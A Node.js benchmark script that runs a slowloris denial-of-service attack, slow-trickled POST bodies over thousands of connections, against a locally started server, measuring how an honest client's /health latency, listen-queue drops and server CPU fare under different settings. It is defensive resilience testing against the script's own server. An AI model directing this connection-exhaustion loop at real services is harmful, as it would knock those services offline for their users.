/**
 * `node bench/attack/slowloris.mjs ROOT SECONDS N ADDRESSES VARIANT...`: red team 14's F3
 * (/work/redteam14/slowloris.mjs, body mode), against a server started in ROOT on the built-in
 * dataset for each VARIANT in turn (a comma-separated list of settings, `KZ_OSCE_LISTEN_BACKLOG=511`
 * say, or `default`), the variants alternated for `ROUNDS` rounds (2 unless set), since the
 * machine's load moves between runs. N connections, from ADDRESSES addresses (127.0.1.1 up), each
 * `POST /graphql` announcing 100,000 bytes and sending one a second, renewed 50 ms after the
 * server closes one; meanwhile an honest client (127.0.0.2) opens a connection every 100 ms and
 * asks /health (its wait includes the connect: what F3 is about), from a process of its own (the
 * red team's, in the attacker's process, counted that loop's lateness too). Prints, a line a run: the
 * honest answers and their waits, 5 s before and SECONDS during; the slow connections opened and
 * how they ended; the kernel's SYNs dropped at a full listen queue (`TcpExtListenDrops`, the whole
 * machine's), the server's connection counters, and its CPU time (user and system, from
 * /proc/PID/stat) over the attack, per connection opened.
 *
 * A variant's settings are environment variables of the server, but for `ROOT=DIR`: that run's
 * server is started in DIR instead (another checkout: a run of main's code beside this one's, in
 * the same minutes). `KZ_BENCH_NODE_FLAGS=--import tsx --import bench/attack/no-source-maps.mjs`
 * runs it with Node's source maps off (tsx turns them on; the second --import turns them off).
 */

import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import { fileURLToPath } from "node:url";
import { percentile, sleep } from "./lib.mjs";
import { serve } from "./serve.mjs";

const [root, seconds = "15", n = "3000", addresses = "200", ...variants] = process.argv.slice(2);
const ROUNDS = Number(process.env.ROUNDS ?? 2);

/** The kernel's count of SYNs dropped at a full listen queue, machine-wide. */
function listenDrops() {
  const lines = readFileSync("/proc/net/netstat", "utf8").split("\n");
  const at = lines.findIndex((l) => l.startsWith("TcpExt:"));
  const names = lines[at].split(" ");
  return Number(lines[at + 1].split(" ")[names.indexOf("ListenDrops")]);
}

/** One /health on a connection of its own, from 127.0.0.2: its status (or error) and wait. */
function health(port) {
  return new Promise((resolve) => {
    const t = performance.now();
    const req = http.get(
      { host: "127.0.0.1", port, path: "/health", agent: false, localAddress: "127.0.0.2" },
      (res) => {
        res.resume();
        res.on("end", () => resolve({ status: res.statusCode, ms: performance.now() - t }));
      },
    );
    req.setTimeout(20_000, () => req.destroy(new Error("timeout")));
    req.on("error", (e) => resolve({ status: e.code ?? e.message, ms: performance.now() - t }));
  });
}

async function honest(port, forMs) {
  const waits = [];
  const other = {};
  const end = performance.now() + forMs;
  while (performance.now() < end) {
    const r = await health(port);
    if (r.status === 200) waits.push(r.ms);
    else other[r.status] = (other[r.status] ?? 0) + 1;
    await sleep(100);
  }
  waits.sort((a, b) => a - b);
  const at = (p) => (waits.length ? percentile(waits, p).toFixed(0) : "-");
  return `${waits.length} answered, p50 ${at(50)} p90 ${at(90)} max ${at(100)} ms${Object.keys(other).length ? `, failed ${JSON.stringify(other)}` : ""}`;
}

/**
 * `honest` in a process of its own (this script, `--honest PORT MS`): in this one, whose event loop
 * also runs the attack's thousands of sockets, its waits would count this loop's lateness too.
 */
const honestApart = (port, forMs) =>
  new Promise((resolve, reject) =>
    execFile(
      process.execPath,
      [fileURLToPath(import.meta.url), "--honest", String(port), String(forMs)],
      (error, stdout) => (error ? reject(error) : resolve(stdout.trim())),
    ),
  );

/** The CPU time (ms, user and system) process `pid` has had, from /proc/PID/stat. */
function cpuMs(pid) {
  const fields = readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1].split(" ");
  // utime and stime, fields 14 and 15 of the whole line (11 and 12 after the command), in ticks
  return ((Number(fields[11]) + Number(fields[12])) * 1000) / 100;
}

async function run(variant) {
  const settings = variant === "default" ? [] : variant.split(",").map((kv) => kv.split("="));
  const env = settings.filter(([k]) => k !== "ROOT");
  const runRoot = settings.find(([k]) => k === "ROOT")?.[1] ?? root;
  const saved = { ...process.env };
  for (const [k, v] of env) process.env[k] = v;
  const server = await serve(runRoot, undefined, "warn");
  process.env = saved;
  const port = Number(new URL(server.url).port);
  const before = await honestApart(port, 5000);
  const slow = { opened: 0, answered: {}, unanswered: 0 };
  let stop = false;
  const sockets = new Set();
  const open = (i) => {
    if (stop) return;
    const s = net.connect({
      port,
      host: "127.0.0.1",
      localAddress: `127.0.1.${1 + (i % Number(addresses))}`,
    });
    slow.opened++;
    sockets.add(s);
    let got = "";
    let timer;
    s.on("data", (d) => (got += d.toString("latin1")));
    s.on("error", () => undefined);
    s.on("close", () => {
      clearInterval(timer);
      sockets.delete(s);
      const status = /^HTTP\/1\.1 (\d+)/.exec(got)?.[1];
      if (status) {
        const key = `${status} ${/"code":"([A-Z_]+)"/.exec(got)?.[1] ?? ""}`.trim();
        slow.answered[key] = (slow.answered[key] ?? 0) + 1;
      } else slow.unanswered++;
      if (!stop) setTimeout(() => open(i), 50);
    });
    s.on("connect", () => {
      s.write(
        "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{",
      );
      timer = setInterval(() => s.write(" "), 1000);
    });
  };
  for (let i = 0; i < Number(n); i++) {
    open(i);
    if (i % 100 === 99) await sleep(20);
  }
  await sleep(3000);
  const drops = listenDrops();
  const [cpuBefore, openedBefore] = [cpuMs(server.child.pid), slow.opened];
  const during = await honestApart(port, Number(seconds) * 1000);
  const dropped = listenDrops() - drops;
  const cpu = cpuMs(server.child.pid) - cpuBefore;
  const opened = slow.opened - openedBefore;
  stop = true;
  for (const s of sockets) s.destroy();
  const metrics = await (await fetch(`${server.url}/metrics`)).text();
  const counter = (name) => new RegExp(`^${name} (\\d+)`, "m").exec(metrics)?.[1] ?? "?";
  console.log(
    `${variant}: before ${before}; during ${during}; SYNs dropped ${dropped}; slow ${JSON.stringify(slow)}; evicted ${counter("kz_osce_http_connections_evicted_total")}, dropped ${counter("kz_osce_http_connections_dropped_total")}; server CPU ${(cpu / 1000).toFixed(1)} s for ${opened} opened, ${((cpu / opened) * 1000).toFixed(0)} µs each; load ${readFileSync("/proc/loadavg", "utf8").split(" ").slice(0, 3).join(" ")}`,
  );
  server.child.kill("SIGTERM");
  await new Promise((resolve) => server.child.once("exit", resolve));
  await sleep(2000);
}

if (root === "--honest") {
  console.log(await honest(Number(seconds), Number(n)));
} else {
  console.log(
    `# slowloris (bodies): ${n} connections from ${addresses} addresses, ${seconds} s, ${new Date().toISOString()}; the honest client in a process of its own`,
  );
  for (let round = 0; round < ROUNDS; round++) for (const variant of variants) await run(variant);
}
